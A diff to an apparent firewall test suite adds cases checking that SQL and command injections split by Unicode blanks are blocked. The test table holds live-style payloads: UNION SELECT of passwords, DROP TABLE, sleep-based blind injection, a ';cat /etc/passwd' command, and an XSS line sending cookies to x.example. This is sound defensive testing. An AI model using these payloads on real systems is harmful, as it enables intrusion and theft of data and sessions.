@@ -34,6 +34,15 @@ describe('attacks are blocked at paranoia 1, whatever the family and the carrier
     ['sqli: stacked query', json({ id: '5; DROP TABLE users' }), 'sqli'],
     ['sqli: time-based blind in a cookie', get('/', { cookie: 'sid=1 AND sleep(5)' }), 'sqli'],
     ['sqli: numeric tautology', get(q('-1 or 2=2')), 'sqli'],
+    // Any Unicode blank is a blank: one em space, ideographic space or BOM between the words hid them.
+    ['sqli: UNION SELECT split by an em space', get(q('1 union\u2003select password from users')), 'sqli'],
+    [
+      'sqli: UNION SELECT split by an ideographic space',
+      json({ id: '1 union\u3000select password from users' }),
+      'sqli',
+    ],
+    ['sqli: tautology split by a BOM', get(q("x'\ufeffor\ufeff'1'='1")), 'sqli'],
+    ['rce: command split by a thin space', get(q(';cat\u2009/etc/passwd')), 'rce'],
     ['sqli: MySQL executable comment', get(q('1 /*!50000union*/ /*!50000select*/ 1')), 'sqli'],
     ['sqli: NoSQL operator as a JSON key', json({ user: 'admin', password: { $ne: null } }), 'sqli'],
     ['xss: script tag', get(q('<script>fetch("//x.example/"+document.cookie)</script>')), 'xss'],
